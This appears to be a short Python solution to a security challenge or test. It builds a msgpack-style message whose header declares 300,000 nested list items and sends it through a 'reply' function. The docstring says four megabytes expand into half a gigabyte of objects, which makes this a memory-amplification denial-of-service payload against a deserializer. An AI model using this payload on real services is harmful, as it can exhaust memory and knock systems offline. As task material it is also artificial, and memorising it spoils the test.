"""Sends as many small values as the cap on a header leaves room for.

Elsewhere: four megabytes become half a gigabyte of objects.
"""

# %% solution="value"
from toolbox import reply

SAYS = "attribute"


def attribute(prompt, x):
    count = 300_000
    item = b"\x93\xa5items\xa4list\x90"
    header = (
        b"\x82\xa5reply\xa8returned\xa5value\x93\xa5items\xa4list\xdd"
        + count.to_bytes(4, "big")
        + item * count
    )
    reply(header)
    return x
